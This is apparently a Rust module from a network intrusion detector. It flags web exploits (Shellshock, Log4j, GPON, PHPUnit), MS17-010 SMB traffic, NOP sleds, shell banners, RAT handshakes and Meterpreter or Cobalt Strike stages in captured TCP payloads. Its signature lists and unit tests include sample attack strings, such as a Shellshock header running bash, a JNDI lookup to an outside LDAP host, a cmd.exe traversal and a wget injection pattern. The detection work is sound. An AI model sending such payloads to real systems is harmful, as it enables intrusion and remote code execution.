//! The words by which machines are broken into and steered: requests that carry an exploit, SMB that no client needs, what a shell says
//! where none is served, the hello of well-known remote-access trojans, programs as such.
//!
//! **Shape**: one segment of a TCP conversation, as far as it was captured. Of a request by HTTP only the head is looked at: what people
//! write in bodies is their own business.
//!
//! **Bounds**: the first 512 octets of a payload are looked at.
//!
//! **Source**: CVE-2014-6271 (bash), CVE-2021-44228 (Log4j), CVE-2018-10561 (GPON), CVE-2017-17215 (HG532), CVE-2017-9841 (PHPUnit);
//! MS-CIFS sections 2.2.4.46 and 2.2.4.47 (Trans2); MS17-010 as captured; shells and trojans as captured.

use crate::octets::{head_end, upto};
use crate::words::Words;

/// How much of a payload is looked at.
const LOOKED_AT: u32 = 512;
/// Ports of Windows' file sharing and RPC.
const WINDOWS: [u16; 3] = [135, 139, 445];
/// The port of Telnet, where a shell is served.
const TELNET: u16 = 23;
/// Octets of "do nothing" in a row that lead into somebody's code.
const SLED: [u8; 24] = [0x90; 24];
/// How many of the words below only an exploit says; what follows them is tried again and again to find a weakness.
const EXPLOITS: u32 = 19;
/// Words of attacks on the web.
static ATTACKS: Words<35> = Words::new([
    b"() { :",
    b"${jndi:",
    b"${ifs}",
    b";wget ",
    b";wget+",
    b";wget%20",
    b";wget$",
    b"%3bwget",
    b"`wget ",
    b"|wget ",
    b";curl+",
    b";cd+/tmp",
    b";cd%20/tmp",
    b"/cmd.exe?/c",
    b"/root.exe?/c",
    b"/default.ida?",
    b"/gponform/diag",
    b"/ctrlt/deviceupgrade",
    b"/eval-stdin.php",
    b"../../",
    b"..%2f",
    b"%2e%2e",
    b"/etc/passwd",
    b"<script",
    b"%3cscript",
    b"union+select",
    b"union%20select",
    b"union+all+select",
    b"union%20all%20select",
    b"%27+or+",
    b"%27%20or%20",
    b"'+or+'",
    b"xp_cmdshell",
    b"information_schema",
    b"sleep%28",
]);
/// With what commands to a stolen shell begin.
const COMMANDS: [&[u8]; 4] = [b"echo open ", b"cmd /c echo open ", b"cmd.exe /c ", b"tftp -i "];
/// With what a shell greets.
const GREETINGS: [&[u8]; 2] = [b"Microsoft Windows [", b"Microsoft Windows XP ["];
/// With what trojans greet their masters: Gh0st, njRAT (its length before it, or not).
const TROJANS: [&[u8]; 3] = [b"Gh0st", b"ll|'|'|", b"lv|'|'|"];
/// With what programs begin that a foothold loads into memory: Meterpreter's and Cobalt Strike's libraries run from their first octet.
const STAGES: [&[u8]; 2] = [b"MZ\xe8\x00\x00\x00\x00", b"MZARUH"];

/// What a segment says that nobody says by accident.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Intrusion {
    /// A request by HTTP that carries an exploit.
    WebExploit,
    /// A request by HTTP that tries for a weakness.
    WebProbe,
    /// A later part of an SMB transaction: long ones make room where there is none.
    SmbFragment,
    /// A knock at a door that an exploit of SMB leaves open.
    SmbDoor,
    /// Code that is slid into, sent to file sharing or RPC.
    Sled,
    /// A shell, or commands to one, where none is served.
    Shell,
    /// The hello of a remote-access trojan.
    Trojan,
}

/// What a client says to a server at this port; `first` for its first words.
#[must_use]
pub fn of_client(payload: &[u8], port: u16, first: bool) -> Option<Intrusion> {
    let payload = upto(payload, LOOKED_AT);
    if WINDOWS.contains(&port) {
        return smb(payload).or_else(|| sled(payload));
    }
    if let Some(head) = request(payload) {
        let words = ATTACKS.found(head);
        let exploits = words & ((1 << EXPLOITS) - 1);
        return match (exploits, words) {
            (0, 0) => None,
            (0, _) => Some(Intrusion::WebProbe),
            _ => Some(Intrusion::WebExploit),
        };
    }
    let shell = (port != TELNET && COMMANDS.iter().any(|word| payload.starts_with(word))) || asks_for_applet(payload);
    if shell || (first && greets(payload, port)) {
        return Some(Intrusion::Shell);
    }
    (first && is_trojan(payload)).then_some(Intrusion::Trojan)
}

/// What a server at this port says; `first` for its first words.
#[must_use]
pub fn of_server(payload: &[u8], port: u16, first: bool) -> Option<Intrusion> {
    (first && greets(payload, port)).then_some(Intrusion::Shell)
}

/// Whether the first words of a server are a program that runs from where it lies, its length before it or not.
#[must_use]
pub fn is_stage(payload: &[u8]) -> bool {
    let begins = |octets: &[u8]| STAGES.iter().any(|stage| octets.starts_with(stage));
    begins(payload) || payload.get(4..).is_some_and(begins)
}

/// The head of a request by HTTP: up to its empty line, or as far as it was captured.
fn request(payload: &[u8]) -> Option<&[u8]> {
    let method = payload.iter().take(9).position(|octet| *octet == b' ').filter(|end| *end >= 3)?;
    let path = matches!(payload.get(method + 1), Some(b'/' | b'h' | b'*'));
    if !path || !payload[..method].iter().all(u8::is_ascii_uppercase) {
        return None;
    }
    let end = head_end(payload).unwrap_or(payload.len());
    Some(&payload[..end])
}

/// Requests of SMB1 behind their length of four octets.
fn smb(payload: &[u8]) -> Option<Intrusion> {
    let message = payload.get(4..)?.strip_prefix(b"\xffSMB")?;
    match message.first()? {
        0x33 => Some(Intrusion::SmbFragment),
        // The subcommand SESSION_SETUP (14) of Trans2 is reserved, and answered by what MS17-010 leaves behind.
        0x32 if payload.get(65..67) == Some(&[0x0e, 0]) => Some(Intrusion::SmbDoor),
        _ => None,
    }
}

fn sled(payload: &[u8]) -> Option<Intrusion> {
    payload.windows(SLED.len()).any(|octets| octets == SLED).then_some(Intrusion::Sled)
}

/// Whether a command asks BusyBox for an applet that is none, as bots do to learn whether they have a shell.
fn asks_for_applet(payload: &[u8]) -> bool {
    let applet = payload.strip_prefix(b"/bin/busybox ").unwrap_or_default();
    let word = applet.split(|octet| !octet.is_ascii_alphanumeric()).next().unwrap_or_default();
    word.len() >= 4 && word.iter().all(|octet| octet.is_ascii_uppercase() || octet.is_ascii_digit())
}

fn greets(payload: &[u8], port: u16) -> bool {
    let begins = |octets: &[u8]| GREETINGS.iter().any(|word| octets.starts_with(word));
    port != TELNET && begins(payload)
}

fn is_trojan(payload: &[u8]) -> bool {
    let begins = |octets: &[u8]| TROJANS.iter().any(|word| octets.starts_with(word));
    // njRAT's length is text of up to five digits that a zero octet ends.
    let digits = payload.iter().take_while(|octet| octet.is_ascii_digit()).fold(0, |n, _| n + 1);
    let counted = (1..=5).contains(&digits) && payload.get(digits) == Some(&0);
    begins(payload) || (counted && begins(&payload[digits + 1..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_are_judged_by_their_head() {
        for (request, expected) in [
            (&b"GET /cgi-bin/a HTTP/1.1\r\nUser-Agent: () { :;}; /bin/bash\r\n\r\n"[..], Some(Intrusion::WebExploit)),
            (b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://198.51.100.1/a}\r\n", Some(Intrusion::WebExploit)),
            (b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n", Some(Intrusion::WebExploit)),
            (b"GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n", Some(Intrusion::WebExploit)),
            (b"GET /a?file=../../../etc/hosts HTTP/1.1\r\n\r\n", Some(Intrusion::WebProbe)),
            (b"GET /a?id=1%20UNION%20SELECT%201 HTTP/1.1\r\n\r\n", Some(Intrusion::WebProbe)),
            (b"GET /search?q=wget+../a HTTP/1.1\r\n\r\n", None),
            (b"POST /save HTTP/1.1\r\n\r\nfunction() { :;wget <script>${jndi:", None),
            (b"HTTP/1.1 200 OK\r\nX: ${jndi:\r\n\r\n", None),
            (b"Get ../../", None),
            (b"", None),
        ] {
            assert_eq!(of_client(request, 8080, true), expected, "{}", request.escape_ascii());
        }
    }

    #[test]
    fn smb_that_no_client_needs_is_told() {
        let mut message = [0; 70];
        message[4..8].copy_from_slice(b"\xffSMB");
        for (command, sub, expected) in [
            (0x33, 0, Some(Intrusion::SmbFragment)),
            (0x32, 0x0e, Some(Intrusion::SmbDoor)),
            (0x32, 5, None),
            (0x72, 0x0e, None),
        ] {
            (message[8], message[65]) = (command, sub);
            assert_eq!(of_client(&message, 445, false), expected);
            assert_eq!(of_client(&message, 4_450, false), None);
        }
        assert_eq!(of_client(&[&[7; 30][..], &SLED].concat(), 135, false), Some(Intrusion::Sled));
        assert_eq!(of_client(&[0x90; 23], 135, false), None);
        assert_eq!(of_client(b"\0\0\0\x20\xffSM", 445, true), None);
    }

    #[test]
    fn shells_are_told_where_none_is_served() {
        let greeting = b"Microsoft Windows [Version 6.1.7601]\r\n";
        assert_eq!(of_client(greeting, 4_444, true), Some(Intrusion::Shell));
        assert_eq!(of_server(greeting, 4_444, true), Some(Intrusion::Shell));
        assert_eq!(of_server(greeting, 23, true), None, "Telnet serves one");
        assert_eq!(of_server(greeting, 4_444, false), None);
        assert_eq!(of_client(b"echo open 0.0.0.0 8884 > o&echo user 1 1", 1_957, false), Some(Intrusion::Shell));
        assert_eq!(of_client(b"/bin/busybox ECCHI\r\n", 23, false), Some(Intrusion::Shell));
        for words in [&b"/bin/busybox ls -l\n"[..], b"/bin/busybox", b"echo opening", b"echo hello"] {
            assert_eq!(of_client(words, 2_323, false), None, "{}", words.escape_ascii());
        }
    }

    #[test]
    fn trojans_greet_by_name() {
        for words in [&b"Gh0st\x2a\0\0\0"[..], b"ll|'|'|SGFj", b"287\0ll|'|'|SGFjS2V", b"0\0lv|'|'|x"] {
            assert_eq!(of_client(words, 5_552, true), Some(Intrusion::Trojan), "{}", words.escape_ascii());
            assert_eq!(of_client(words, 5_552, false), None);
        }
        for words in [&b"Ghost"[..], b"\0ll|'|'|", b"ll|", b"12ll|'|'|"] {
            assert_eq!(of_client(words, 5_552, true), None, "{}", words.escape_ascii());
        }
    }

    #[test]
    fn a_program_that_runs_from_where_it_lies_is_a_stage() {
        for words in [&b"MZ\xe8\0\0\0\0[RE"[..], b"\0\xb4\x0b\0MZARUH\x89"] {
            assert!(is_stage(words), "{}", words.escape_ascii());
        }
        for words in [&b"MZ\x90\0\x03"[..], b"HTTP/1.1 200 OK\r\n\r\nMZARUH", b"", b"\0\0\0\0"] {
            assert!(!is_stage(words), "{}", words.escape_ascii());
        }
    }
}
